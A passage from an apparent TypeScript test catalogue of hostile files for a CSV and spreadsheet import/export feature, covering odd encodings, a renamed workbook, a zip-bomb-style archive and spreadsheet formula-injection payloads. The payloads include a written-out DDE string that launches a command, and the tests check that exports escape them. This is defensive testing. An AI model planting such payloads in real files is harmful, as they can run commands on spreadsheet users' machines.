    expect: { reads: HOMOGLYPH_EMAIL },
  },
  {
    id: "leads-only-bom",
    target: "contact-list",
    fileName: "leads-bom.csv",
    bytes: () => new Uint8Array([0xef, 0xbb, 0xbf, 0x0d, 0x0a]),
    expect: { refused: /leads-bom\.csv is empty/ },
  },
  {
    id: "leads-header-and-1m-empty-rows",
    target: "contact-list",
    fileName: "leads-blank.csv",
    bytes: () => headerThenEmptyRows("Name,Email", 1_000_000),
    expect: { refused: /leads-blank\.csv has no email addresses in the column “Email”/ },
    budgetMs: 20_000,
  },

  // ------------------------------------------------ partner project lists
  {
    id: "partner-xlsx-renamed",
    target: "partner-list",
    fileName: "partner.csv",
    bytes: xlsxBytes,
    expect: { refused: /partner\.csv is an Excel workbook/ },
  },
  {
    id: "partner-zip-bomb",
    target: "partner-list",
    fileName: "partner.csv",
    bytes: () => rawZip([deflatedCsvEntry("partner.csv", 16)], { overlap: 300, declaredSize: 1024 }),
    expect: { refused: /partner\.csv is a ZIP archive, not a CSV file/ },
  },
  {
    id: "partner-windows-1252",
    target: "partner-list",
    fileName: "partner-1252.csv",
    bytes: () => latin1("Backer Name,Backer Email\nJosé,first@example.com\n"),
    expect: { warned: /partner-1252\.csv is not UTF-8, so it was read as Windows-1252/ },
  },
  {
    id: "partner-cr-only",
    target: "partner-list",
    fileName: "partner-cr.csv",
    bytes: () => utf8("Backer Name,Backer Email\rAda,first@example.com\rGrace,second@example.com\r"),
    expect: { reads: "second@example.com" },
  },
  {
    id: "partner-no-email-column",
    target: "partner-list",
    fileName: "partner-names.csv",
    bytes: () => utf8(`Backer Name,Pledge\n${csvCell(SCRIPT_NAME)},10\n`),
    expect: { refused: /partner-names\.csv has no email column \(its columns are “Backer Name”, “Pledge”\)/ },
  },

  // ------------------------------------------------ CSV exports (cells that reach a spreadsheet)
  ...[FORMULA_HYPERLINK, FORMULA_DDE, FORMULA_AT, "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\uFF1D1+1"].map(
    (payload, index): HostileFile => ({
      id: `export-formula-${index + 1}`,
      target: "csv-export",
      fileName: "backers-export.csv",
      bytes: () => utf8(payload),
      expect: { reads: `'${payload}` },
    }),
  ),

  // ------------------------------------------------ Excel workbooks (tests/support/hostile-workbooks.ts)
  ...HOSTILE_WORKBOOKS,
];

/** How many catalogue entries each target has. */
export function countHostileFilesByTarget(): Record<HostileTarget, number> {
  const counts = Object.fromEntries(HOSTILE_TARGETS.map((target) => [target, 0])) as Record<HostileTarget, number>;
  for (const file of HOSTILE_FILES) counts[file.target]++;
  return counts;
}
